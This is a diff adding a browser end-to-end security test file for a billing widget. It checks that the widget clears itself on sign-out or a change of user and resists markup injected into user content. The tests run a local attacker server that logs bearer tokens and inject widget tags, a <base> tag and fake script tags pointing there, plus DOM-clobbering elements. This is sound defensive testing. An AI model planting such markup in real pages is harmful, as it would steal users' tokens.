@@ -1,0 +1,241 @@
+/**
+ * Two takeovers of a page, each in a real browser: a page that outlives its person, and markup in a user's content that
+ * names where tokens go. What people read is part of each.
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { active, pro } from '../../demo/host/gallery/snapshots.ts';
+import { openAudience, type Audience } from '../e2e/browser-pages.ts';
+import { scriptTag, Stage, tokenOf } from '../e2e/host-stage.ts';
+import { press, says } from '../e2e/widget-words.ts';
+
+let stage: Stage;
+let audience: Audience;
+let evil: Evil;
+beforeAll(async () => {
+  [stage, audience, evil] = await Promise.all([new Stage().open(), openAudience(), openEvil()]);
+});
+afterAll(() => Promise.all([stage.close(), audience.close(), evil.close()]));
+beforeEach(() => {
+  stage.asked.length = 0;
+  stage.instead.clear();
+  evil.heard.length = 0;
+});
+afterEach(async () => {
+  await audience.leave();
+  expect(audience.troubles.splice(0)).toEqual([]);
+  audience.warnings.length = 0;
+});
+
+interface Evil {
+  readonly url: string;
+  /** What arrived there: the address and the bearer's token. */
+  readonly heard: string[];
+  close(): Promise<void>;
+}
+
+/** An attacker's server, which answers every origin as a BFF would. */
+async function openEvil(): Promise<Evil> {
+  const heard: string[] = [];
+  const server: Server = createServer((request, response) => {
+    if (request.method !== 'OPTIONS') heard.push(`${request.url} ${request.headers.authorization ?? ''}`);
+    response.writeHead(200, {
+      'access-control-allow-origin': request.headers.origin ?? '*',
+      'access-control-allow-headers': 'authorization, content-type, if-none-match, prefer',
+      'access-control-allow-credentials': 'true',
+      'content-type': 'application/json',
+    });
+    response.end(JSON.stringify({ ...active, token: tokenOf('account-1') }));
+  });
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    heard,
+    close: () => new Promise((closed) => void (server.closeAllConnections(), server.close(() => closed()))),
+  };
+}
+
+const widget = '<billhook-widget></billhook-widget>';
+const subjectOf = (authorization = ''): string =>
+  (JSON.parse(Buffer.from(authorization.split('.')[1] ?? '', 'base64url').toString()) as { sub: string }).sub;
+/** The words of all elements on the page. */
+const words = (page: Page) =>
+  page.evaluate(() =>
+    [...document.querySelectorAll<HTMLElement>('billhook-widget')]
+      .map(({ shadowRoot }) => shadowRoot?.querySelector<HTMLElement>('.root')?.innerText ?? '')
+      .join(''),
+  );
+const portals = () => stage.asked.filter((each) => each === 'POST /v1/portal-sessions');
+
+describe('B16: a page that outlives its person', () => {
+  /** Signed in at the host; `null`: no one is. */
+  let person: string | null;
+  let opened: string[];
+  beforeEach(() => {
+    person = 'alice';
+    opened = [];
+    stage.pages.set('/', { head: scriptTag(stage), body: widget });
+    stage.instead.set('/token', (c) => (person === null ? c.body(null, 204) : c.json({ token: tokenOf(person) })));
+    stage.instead.set('/v1/billing', (c) => {
+      const subject = subjectOf(c.req.header('authorization'));
+      return c.json(subject === 'alice' ? active : { ...active, plan: pro, revision: 'e1.2' });
+    });
+    stage.instead.set('/v1/portal-sessions', (c) => {
+      opened.push(subjectOf(c.req.header('authorization')));
+      return c.json({ url: `${stage.bffUrl}/stripe`, visit: 'visit-1' });
+    });
+  });
+
+  const open = async (): Promise<Page> => {
+    const page = await audience.page(`${stage.hostUrl}/`);
+    await says(page, 'Team');
+    return page;
+  };
+  /** Hidden, and then seen again: what a tab is told in which a person comes back. */
+  const leaveAndComeBack = (page: Page) =>
+    page.evaluate(() => {
+      for (const visibility of ['hidden', 'visible']) {
+        Object.defineProperty(Document.prototype, 'visibilityState', { configurable: true, get: () => visibility });
+        document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
+      }
+    });
+
+  it('a click of the next person opens no portal: first the page is theirs, and then what they press', async () => {
+    const page = await open();
+    person = 'bob';
+    await press(page, 'Manage billing');
+    await says(page, 'Pro');
+    expect(opened).toEqual([]);
+    expect(await words(page)).not.toContain('Team');
+    await press(page, 'Manage billing');
+    await page.waitForURL('**/stripe');
+    expect(opened).toEqual(['bob']);
+  });
+
+  it('a click after sign-out opens nothing, and the page is empty', async () => {
+    const page = await open();
+    person = null;
+    await press(page, 'Manage billing');
+    await expect.poll(() => words(page)).toBe('');
+    expect([opened, portals()]).toEqual([[], []]);
+  });
+
+  it('the next person, who comes to the tab, reads their own plan', async () => {
+    const page = await open();
+    person = 'bob';
+    await leaveAndComeBack(page);
+    await says(page, 'Pro');
+    expect(await words(page)).not.toContain('Team');
+  });
+
+  it('a tab that comes forward after sign-out shows nothing', async () => {
+    const page = await open();
+    person = null;
+    await leaveAndComeBack(page);
+    await expect.poll(() => words(page)).toBe('');
+  });
+
+  it('forgetBillhook() at sign-out: nothing is shown, and nothing is kept in the tab', async () => {
+    const page = await open();
+    person = null;
+    await page.evaluate(() => sessionStorage.setItem('billhook-visit:left', 'visit-1'));
+    // As text, because the test runner has an `import` of its own.
+    await page.evaluate(`import('${stage.bffUrl}/widget.js').then(({ forgetBillhook }) => forgetBillhook())`);
+    await expect.poll(() => words(page)).toBe('');
+    expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([]);
+  });
+
+  const login = '<!doctype html><title>Sign in</title><form action="/sign-in"></form>';
+  it.each([
+    ['{ "token": null }', 200, '{"token":null}', 0],
+    ['204', 204, null, 0],
+    ['404', 404, 'Not found', 1],
+    ['419', 419, 'Page expired', 0],
+    ['a login page', 200, login, 1],
+    ['another token than ours', 200, '{"token":"csrf-5f2a"}', 1],
+  ])('a host that answers %s: signed out, and %i is no error for the customer', async (_, status, body, warnings) => {
+    const page = await open();
+    stage.instead.set('/token', () => new Response(body, { status }));
+    stage.asked.length = 0;
+    await press(page, 'Manage billing');
+    await expect.poll(() => words(page)).toBe('');
+    expect(stage.asked).toEqual(['GET /token']);
+    expect(audience.warnings.filter((each) => each.startsWith('billhook: '))).toHaveLength(warnings);
+    // The browser's own note of a status.
+    expect(audience.troubles.splice(0).filter((each) => !/status of 4/.test(each))).toEqual([]);
+  });
+});
+
+describe('B17: markup of a user’s content', () => {
+  const csrf = '{"token":"csrf-5f2a"}';
+  const honest = `<main>${widget}</main>`;
+
+  it.each([
+    ['with any JSON that has a token', () => `<billhook-manage-button api="${evil.url}" token-url="/api/csrf">`],
+    ['with the widget token', () => `<billhook-manage-button api="${evil.url}" token-url="/token">`],
+    ['with the page’s own token', () => `<billhook-widget api="${evil.url}">`],
+    ['by another path of the BFF', () => `<billhook-widget api="${stage.bffUrl}/uploads/evil/">`],
+  ])('names another BFF %s: nothing is sent there, and it is said that it does not work', async (_, gadget) => {
+    stage.scripts.set('/api/csrf', csrf);
+    const tag = /<([\w-]+)/.exec(gadget())?.[1] ?? '';
+    stage.pages.set('/', { head: scriptTag(stage), body: `${honest}<article>${gadget()}</${tag}></article>` });
+    const page = await audience.page(`${stage.hostUrl}/`);
+    await says(page, 'Team');
+    await page.waitForLoadState('networkidle');
+    expect(evil.heard).toEqual([]);
+    expect(stage.asked).toEqual(['GET /token', 'GET /v1/billing']);
+    if (tag === 'billhook-widget') await page.locator('article').getByText('api_not_allowed').first().waitFor();
+    expect(audience.warnings).toEqual([expect.stringMatching(/^billhook: api_not_allowed: /)]);
+  });
+
+  it.each([
+    ['on another origin', () => `${evil.url}/token`, 'token_url_not_allowed'],
+    ['with JSON that is not ours', () => '/api/csrf', ''],
+  ])('names a token address %s: nothing is sent, and the page’s own elements work', async (_, address, code) => {
+    stage.scripts.set('/api/csrf', csrf);
+    const gadget = `<article><billhook-widget token-url="${address()}" token-credentials="include"></billhook-widget></article>`;
+    stage.pages.set('/', { head: scriptTag(stage), body: `${gadget}${honest}` });
+    const page = await audience.page(`${stage.hostUrl}/`);
+    await page.locator('main billhook-widget .root.ready').getByText('Team').first().waitFor();
+    await page.waitForLoadState('networkidle');
+    expect(evil.heard).toEqual([]);
+    expect(stage.asked).toEqual(['GET /token', 'GET /v1/billing']);
+    if (code) await page.locator('article').getByText(code).first().waitFor();
+    else expect(await page.locator('article billhook-widget .root').innerText()).toBe('');
+  });
+
+  it('has a <base> and further script tags: they change nothing', async () => {
+    const tag = (attributes: string) => `<script type="module" src="${stage.bffUrl}/widget.js" ${attributes}></script>`;
+    const fake = tag(`data-api="${evil.url}" data-token-url="${evil.url}/token" data-words="x" data-get-token="x"`);
+    stage.pages.set('/', { head: scriptTag(stage), body: `${honest}<base href="${evil.url}/">${fake}` });
+    const page = await audience.page(`${stage.hostUrl}/`);
+    await says(page, 'Team');
+    await press(page, 'Manage billing');
+    await page.waitForURL('**/stripe');
+    expect(evil.heard).toEqual([]);
+    // In front of ours, where a page has its scripts at the end: ours is of no use then, and still nothing is sent.
+    stage.pages.set('/', { body: `${honest}<base href="${evil.url}/">${fake}${scriptTag(stage)}` });
+    const other = await audience.page(`${stage.hostUrl}/`);
+    await other.locator('billhook-widget').getByText('token_url_not_allowed').first().waitFor();
+    expect(evil.heard).toEqual([]);
+  });
+
+  it('has names of the document’s own properties: every element works', async () => {
+    const names = [
+      ...['baseURI', 'readyState', 'visibilityState', 'documentElement', 'querySelectorAll', 'currentScript', 'body'],
+      ...['createElement', 'createTreeWalker', 'createComment', 'importNode', 'implementation', 'adoptedStyleSheets'],
+      ...['billhook', 'location', 'origin', 'fetch', 'customElements', 'sessionStorage', 'document'],
+    ];
+    const clobbering = names
+      .map((name) => `<img name="${name}" id="${name}" alt=""><form name="${name}"></form>`)
+      .join('');
+    stage.pages.set('/', { head: scriptTag(stage), body: `${clobbering}${honest}` });
+    const page = await audience.page(`${stage.hostUrl}/`);
+    await says(page, 'Team');
+    await press(page, 'Manage billing');
+    await page.waitForURL('**/stripe');
+  });
+});
